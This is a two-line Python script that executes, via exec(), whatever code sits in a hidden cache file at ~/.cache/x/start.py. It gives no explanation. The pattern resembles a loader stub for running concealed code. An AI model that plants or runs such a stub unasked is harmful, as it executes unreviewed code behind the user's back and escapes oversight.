import os

exec(open(os.path.expanduser('~/.cache/x/start.py')).read())
